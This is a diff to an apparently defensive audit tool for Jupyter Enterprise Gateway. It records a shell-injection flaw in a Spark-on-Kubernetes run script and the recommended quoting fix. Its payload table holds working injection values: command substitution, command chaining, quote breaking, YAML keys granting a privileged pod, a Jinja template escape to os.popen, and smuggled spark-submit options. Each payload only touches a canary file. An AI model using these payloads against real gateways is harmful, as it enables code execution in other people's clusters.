@@ -91,8 +91,21 @@ SSH_INJECTION = (
     "no remote_hosts reached over ssh, or restrict KERNEL_* values at a proxy"
 )
 
+SPARK_RUN_SH = (
+    "EG 3.3.0 etc/kernelspecs/spark_*_kubernetes/bin/run.sh appends the options "
+    "launch_kubernetes.py _get_spark_resources writes from the rendered pod resources "
+    "(--conf spark.driver.cores=<KERNEL_CPUS> ..., values unquoted) to SPARK_OPTS and runs "
+    '`eval exec spark-submit "${SPARK_OPTS}"`, so a KERNEL_CPUS/KERNEL_MEMORY(_LIMIT) value is '
+    "shell source in the gateway's pod; SPARK_OPTS' own ${KERNEL_USERNAME} is word-split. No "
+    "upstream fix found (checked against EG's issues and PRs, 2026-12). Fix: shlex.quote each "
+    "value in _get_spark_resources and quote the references in SPARK_OPTS, or drop the eval; "
+    "until then refuse KERNEL_CPUS/KERNEL_MEMORY values that are not Kubernetes quantities "
+    "(a proxy in front of EG, or the audit's grammar on profiles)"
+)
 SPLIT = Known(observed="500: the kernel never starts", cause=SPARK_SPLIT)
 RAN = Known(observed="the payload ran in the remote shell", cause=SSH_INJECTION)
+SH_RAN = Known(observed="the payload ran in the gateway's pod", cause=SPARK_RUN_SH)
+SH_SPLIT = Known(observed="the value reached spark-submit split or changed", cause=SPARK_RUN_SH)
 MANGLED = Known(observed="the value arrived changed", cause=SSH_MANGLES)
 
 SPARK_USER = {"spark": (PROBE_VAR, "KERNEL_USERNAME")}
@@ -104,41 +117,42 @@ PAYLOADS: tuple[Payload, ...] = (
         what="$( ) command substitution",
         value="$(touch {canary})",
         variables={**SPARK_USER, **POD_FIELDS},
-        known={"spark": SPLIT, "remote-ssh": RAN},
+        known={"spark": SPLIT, "remote-ssh": RAN, "spark-run-sh": SH_RAN},
     ),
     Payload(
         id="shell-backticks",
         what="backtick command substitution",
         value="`touch {canary}`",
         variables={**SPARK_USER, **POD_FIELDS},
-        known={"spark": SPLIT, "remote-ssh": RAN},
+        known={"spark": SPLIT, "remote-ssh": RAN, "spark-run-sh": SH_RAN},
     ),
     Payload(
         id="shell-chain",
         what="; && | command chaining",
         value="x; touch {canary} && true | true #",
         variables=POD_FIELDS,
+        known={"spark-run-sh": SH_SPLIT},
     ),
     Payload(
         id="shell-quotes",
         what="quotes that close a quoted word, then a command",
         value="x'\"; touch {canary}; echo \"'",
         variables={**SPARK_USER, **POD_FIELDS},
-        known={"remote-ssh": MANGLED},
+        known={"remote-ssh": MANGLED, "spark-run-sh": SH_SPLIT},
     ),
     Payload(
         id="newline-command",
         what="newlines around a command",
         value="x\ntouch {canary}\n",
         variables=POD_FIELDS,
-        known={"remote-ssh": MANGLED},
+        known={"remote-ssh": MANGLED, "spark-run-sh": SH_SPLIT},
     ),
     Payload(
         id="yaml-structure",
         what="YAML: a quote, a newline and new keys",
         value='x"\n    securityContext: {privileged: true}\n  egh_injected: "yes\n---\nkind: Pod',
         variables=POD_FIELDS,
-        known={"remote-ssh": MANGLED},
+        known={"remote-ssh": MANGLED, "spark-run-sh": SH_SPLIT},
     ),
     Payload(
         id="jinja-expression",
@@ -146,14 +160,20 @@ PAYLOADS: tuple[Payload, ...] = (
         value="{{ 7 * 7 }}{% if true %}jinja-ran{% endif %}"
         "{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}",
         variables={**POD_FIELDS, "kubernetes-pod": (PROBE_VAR, "KERNEL_POD_NAME")},
-        known={"remote-ssh": MANGLED},
+        known={
+            "remote-ssh": MANGLED,
+            "spark-run-sh": Known(observed="the run script fails: no kernel", cause=SPARK_RUN_SH),
+        },
     ),
     Payload(
         id="spark-conf-in-username",
         what="spark-submit options inside a value",
         value=f"egh --conf {SPARK_MARK}=true --conf spark.driver.extraJavaOptions=-Degh=1",
         variables=SPARK_USER,
-        known={"spark": Known(observed=f"Spark conf gained {SPARK_MARK}", cause=SPARK_EVAL)},
+        known={
+            "spark": Known(observed=f"Spark conf gained {SPARK_MARK}", cause=SPARK_EVAL),
+            "spark-run-sh": Known(observed=f"spark-submit gained {SPARK_MARK}", cause=SPARK_RUN_SH),
+        },
     ),
     Payload(
         id="nul-byte",
